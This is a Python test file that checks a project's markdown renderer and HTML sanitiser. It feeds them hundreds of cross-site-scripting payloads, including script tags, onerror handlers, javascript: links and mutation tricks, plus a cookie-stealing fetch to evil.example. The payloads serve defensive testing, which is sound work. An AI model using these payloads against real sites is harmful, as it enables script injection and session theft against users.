"""CASES E1: whatever is sent, the HTML holds no script, no handler, no style, and only addresses that are allowed."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from itertools import product
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from maillon.core.text.markdown import render
from maillon.core.text.sanitise import sanitise

ELEMENTS = "a b blockquote br code del div em h3 h4 h5 h6 hr i li ol p pre s span strong table tbody td th thead tr ul"
ATTRIBUTES = {"href", "rel", "title", "class", "start", "tabindex"}
CLASSES = {"mention", "topic", "topics", "table-scroll", "link-host", "align-left", "align-center", "align-right"}

CALLS = ["alert(1)", "alert`1`", "top[/al/.source+/ert/.source](1)", "fetch('//evil.example/'+document.cookie)"]
TAGS = [
    "<script>{0}</script>",
    "<ScRiPt src=//evil.example/x.js>",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<img src=x onerror={0}>",
    '<img/src="x"/onerror="{0}">',
    "<img src=x onerror\n=\n{0}>",
    "<svg onload={0}>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<svg><script>{0}</script></svg>",
    "<svg><style><img src=x onerror={0}></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={0}>",
    "<math href=javascript:{0}>x</math>",
    "<body onload={0}>",
    "<details open ontoggle={0}>",
    "<video><source onerror={0}></video>",
    "<iframe srcdoc='<script>{0}</script>'>",
    "<iframe src=javascript:{0}>",
    "<object data=javascript:{0}>",
    "<embed src=javascript:{0}>",
    "<form action=javascript:{0}><button>x</button></form>",
    "<a href=javascript:{0}>x</a>",
    "<a href='&#106;avascript:{0}'>x</a>",
    "<a href='java\tscript:{0}'>x</a>",
    "<a href=' \x01javascript:{0}'>x</a>",
    "<a href='data:text/html,<script>{0}</script>'>x</a>",
    '<p style="background:url(javascript:{0})">x</p>',
    "<style>*{{background:url(javascript:{0})}}</style>",
    "<link rel=stylesheet href=javascript:{0}>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<base href=javascript:{0}//>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<template><script>{0}</script></template>",
    "<textarea></textarea><script>{0}</script>",
    "<!--><img src=x onerror={0}>-->",
    "<!--[if gte IE 4]><script>{0}</script><![endif]-->",
    "<![CDATA[<img src=x onerror={0}>]]>",
    "<?xml version='1.0'?><script>{0}</script>",
    "<div id=x name=y class='modal' onclick={0} tabindex=1>x</div>",
    "<p><a><p><a href=javascript:{0}>",
    "<table><td><script>{0}</script><tr onclick={0}>",
]
MARKDOWN = [
    "[x](javascript:{0})",
    "[x](JaVaScRiPt:{0})",
    "[x](&#x6A;avascript:{0})",
    "[x](java&Tab;script:{0})",
    "[x](<javascript:{0}>)",
    "[x]( javascript:{0} 'title')",
    "[x][r]\n\n[r]: javascript:{0}",
    "![x](javascript:{0})",
    '![x](x "onerror={0}")',
    '![x" onerror="{0}](x)',
    "<javascript:{0}>",
    '[x](http://a.example "><script>{0}</script>")',
    '[x](http://a.example/"onmouseover="{0})',
    "http://a.example/'onmouseover='{0}'",
    "`<script>{0}</script>`",
    "```<script>{0}\n</script>\n```",
    '``` "onclick="{0}\nx\n```',
    "    <script>{0}</script>",
    "|<script>{0}</script>|\n|-|\n|<img onerror={0}>|",
    "@[<img src=x onerror={0}>](person:1)",
    '@[x" onclick="{0}](person:1)',
    '#x"onclick={0}',
    "[x](data:text/html;base64,PHNjcmlwdD4={0})",
    "[x](vbscript:{0})",
]
WRAPPINGS = ["{0}", "> {0}", "- {0}", "**{0}**", "[{0}](http://a.example)", "# {0}"]


class Faults(HTMLParser):
    """Everything in a piece of HTML that must not be there."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ELEMENTS.split():
            self.found.append(f"<{tag}>")
        self.found += [f"{tag} {name}={value}" for name, value in attrs if not self._fits(name, value or "")]

    def _fits(self, name: str, value: str) -> bool:
        if name == "href":
            is_ours = not value.strip().startswith(("//", "\\", "/\\"))
            return urlsplit(value).scheme in {"http", "https", "mailto", ""} and is_ours
        return set(value.split()) <= CLASSES if name == "class" else name in ATTRIBUTES

    def handle_comment(self, data: str) -> None:
        self.found.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"instruction {data}")


def _faults(html: str) -> list[str]:
    found = Faults(html).found
    return [*found, "changes when sanitised again"] if sanitise(html) != html else found


def _payloads() -> Iterator[str]:
    for shape, call, wrapping in product(TAGS + MARKDOWN, CALLS, WRAPPINGS):
        yield wrapping.format(shape.format(call))


def test_case_e1_no_payload_of_ours_runs_as_markdown_or_as_html() -> None:
    payloads = list(_payloads())
    faulty = {
        text: found
        for text in payloads
        if (found := _faults(render(text, mentions={1: text}).html) + _faults(sanitise(text)))
    }
    assert len(set(payloads)) >= 1_500
    assert faulty == {}


def test_case_e1_no_naughty_string_runs(corpus: Callable[[str], Path]) -> None:
    strings = json.loads(corpus("naughty-strings/blns.json").read_text())
    faulty = {text: found for text in strings if (found := _faults(render(text).html) + _faults(sanitise(text)))}
    assert len(strings) == 515
    assert faulty == {}


@pytest.mark.parametrize(
    "name", ["xss", "fatal", "proto", "linkify", "punycode", "normalize", "tables", "commonmark_extras", "issue-fixes"]
)
def test_case_e1_no_example_of_the_parsers_own_tests_runs(name: str, corpus: Callable[[str], Path]) -> None:
    text = corpus(f"markdown-commonmark/{name}.md").read_text()
    parts = [*text.split("\n.\n"), text]
    assert {part: found for part in parts if (found := _faults(render(part).html) + _faults(sanitise(part)))} == {}


PIECES = [
    "<",
    ">",
    "</",
    "<a href=",
    "<p>",
    "<b>",
    "<table>",
    "<td>",
    "<pre>\n\n",
    "<svg>",
    "<math>",
    "<style>",
    "'",
    '"',
    "javascript:",
    "x",
    " ",
    "=",
]
PIECES += ["onload", "&lt;", "&#", ";", "<!--", "-->", "]]>", "/", "\n", "<ul><li>", "<h1>", "<div class=topic>"]
MARKS = ["[", "](", ")", "`", "|-|\n", "> ", "- ", "*", "@[", "](person:1)", " #"]


@given(st.lists(st.sampled_from(PIECES), max_size=40).map("".join))
def test_case_e1_sanitising_twice_changes_nothing_and_lets_nothing_through(markup: str) -> None:
    assert _faults(sanitise(markup)) == []


@given(
    st.lists(
        st.sampled_from(PIECES + MARKS),
        max_size=40,
    ).map("".join)
)
def test_case_e1_no_mixture_of_html_and_markdown_runs(source: str) -> None:
    assert _faults(render(source, mentions={1: source}).html) == []


def test_code_with_many_empty_lines_before_it_stays_code() -> None:
    assert sanitise("<pre>" + "\n" * 50 + "x</pre>") == "<pre>x</pre>"


def test_what_is_allowed_passes_unchanged() -> None:
    html = '<p>a <strong>b</strong> <a class="mention" href="/people/1/">@c</a></p>\n<ol start="3">\n<li>d</li>\n</ol>'
    assert sanitise(html) == html


def test_a_link_outside_always_lends_no_weight() -> None:
    assert (
        sanitise('<a href="http://a.example" rel="me">x</a>')
        == '<a href="http://a.example" rel="noopener nofollow ugc">x</a>'
    )
